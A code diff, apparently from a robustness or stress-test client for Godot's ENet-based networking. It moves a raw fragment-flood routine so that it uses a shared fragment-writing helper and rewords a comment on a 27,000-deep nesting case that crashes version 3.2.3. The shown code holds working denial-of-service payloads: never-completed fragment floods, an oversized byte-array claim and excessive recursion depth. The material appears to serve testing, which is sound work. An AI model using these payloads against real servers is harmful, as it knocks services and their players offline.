@@ -203,7 +203,7 @@ static void nested(ctx_t *c, int depth) {
     free(a.p);
 }
 static void a_depth_1100(ctx_t *c) { nested(c, 1100); } /* past Variant::MAX_RECURSION_DEPTH = 1024 */
-static void a_depth_27000(ctx_t *c) { nested(c, 27000); } /* kills 3.2.3's bytes_to_var */
+static void a_depth_27000(ctx_t *c) { nested(c, 27000); } /* 216 KB: 3.2.3 dies of it (README.md) */
 static void a_bytes_2gb(ctx_t *c) { /* a PackedByteArray claiming 0x7FFFFFF0 bytes, carrying 16 */
     buf_t a = args_buf();
     put32le(&a, c->g->t_byte_array);
@@ -300,47 +300,10 @@ static void a_message_flood(ctx_t *c) {
     }
     free(a.p);
 }
-/* A fragment flood, written as raw ENet datagrams on the client's own socket and session: 25
- * messages on channel 0 each announcing 1,000 fragments of 1,000 bytes (1 MB), of which every
- * fragment but the last is sent, so none is ever complete (thirdparty/enet protocol.c,
- * enet_protocol_handle_send_fragment, holds each until it is). The reliable sequence numbers are
- * taken from the channel's own counter, so the session stays consistent. */
-static void a_fragment_flood(ctx_t *c) {
-    enum { MESSAGES = 25, FRAGMENTS = 1000, FRAG = 1000 };
-    uint8_t d[64 + FRAG];
-    ENetChannel *ch = &c->peer->channels[c->g->gen == 4 ? 0 : 1];
-    for (int m = 0; m < MESSAGES; m++) {
-        uint16_t start = (uint16_t)(ch->outgoingReliableSequenceNumber + 1);
-        for (int f = 0; f < FRAGMENTS - 1; f++) {
-            uint16_t seq = (uint16_t)(start + f);
-            size_t n = 0;
-            uint16_t peer_field = (uint16_t)(c->peer->outgoingPeerID | (c->peer->outgoingSessionID << 12) | 0x8000);
-            d[n++] = peer_field >> 8; d[n++] = peer_field & 0xFF;
-            uint16_t st = (uint16_t)enet_time_get();
-            d[n++] = st >> 8; d[n++] = st & 0xFF;
-            d[n++] = 8 | 0x80; /* SEND_FRAGMENT, acknowledge */
-            d[n++] = (uint8_t)(ch - c->peer->channels);
-            d[n++] = seq >> 8; d[n++] = seq & 0xFF;
-            d[n++] = start >> 8; d[n++] = start & 0xFF;
-            d[n++] = FRAG >> 8; d[n++] = FRAG & 0xFF;
-            uint32_t fields[4] = {FRAGMENTS, (uint32_t)f, FRAGMENTS * FRAG, (uint32_t)f * FRAG};
-            for (int i = 0; i < 4; i++) {
-                d[n++] = fields[i] >> 24; d[n++] = (fields[i] >> 16) & 0xFF;
-                d[n++] = (fields[i] >> 8) & 0xFF; d[n++] = fields[i] & 0xFF;
-            }
-            memset(d + n, 0xA5, FRAG);
-            n += FRAG;
-            ENetBuffer eb = {.data = d, .dataLength = n};
-            enet_socket_send(c->host->socket, &c->peer->address, &eb, 1);
-            c->packets++;
-            c->bytes += n;
-            if (f % 50 == 49) pump(c, 1);
-        }
-        ch->outgoingReliableSequenceNumber = (uint16_t)(start + FRAGMENTS - 1);
-    }
-}
-
-/* One reliable raw fragment of a message (the layout of a_fragment_flood). */
+/* One reliable fragment of a message, written raw on the client's own socket and session: the header
+ * with the peer id, session and sent time, then SEND_FRAGMENT with the acknowledge flag (thirdparty/enet
+ * protocol.h: ENetProtocolSendFragment, every field big-endian), its reliable sequence number start +
+ * number, and `size` bytes of 0x5A. */
 static void raw_fragment(ctx_t *c, ENetChannel *ch, uint16_t start, uint32_t count, uint32_t number, uint32_t size) {
     uint8_t d[64 + 1024];
     size_t n = 0;
@@ -363,6 +326,25 @@ static void raw_fragment(ctx_t *c, ENetChannel *ch, uint16_t start, uint32_t cou
     c->packets++;
     c->bytes += n;
 }
+
+/* A fragment flood, written as raw ENet datagrams on the client's own socket and session: 25
+ * messages on channel 0 each announcing 1,000 fragments of 1,000 bytes (1 MB), of which every
+ * fragment but the last is sent, so none is ever complete (thirdparty/enet protocol.c,
+ * enet_protocol_handle_send_fragment, holds each until it is). The reliable sequence numbers are
+ * taken from the channel's own counter, so the session stays consistent. */
+static void a_fragment_flood(ctx_t *c) {
+    enum { MESSAGES = 25, FRAGMENTS = 1000, FRAG = 1000 };
+    ENetChannel *ch = &c->peer->channels[c->g->gen == 4 ? 0 : 1];
+    for (int m = 0; m < MESSAGES; m++) {
+        uint16_t start = (uint16_t)(ch->outgoingReliableSequenceNumber + 1);
+        for (uint32_t f = 0; f < FRAGMENTS - 1; f++) {
+            raw_fragment(c, ch, start, FRAGMENTS, f, FRAG);
+            if (f % 50 == 49) pump(c, 1);
+        }
+        ch->outgoingReliableSequenceNumber = (uint16_t)(start + FRAGMENTS - 1);
+    }
+}
+
 
 /* A client vanishing mid-fragment: 50 of the 100 fragments of a 100 KB reliable message, then the
  * process ends at once, with no DISCONNECT (the holder of the fragments must forget them by itself). */
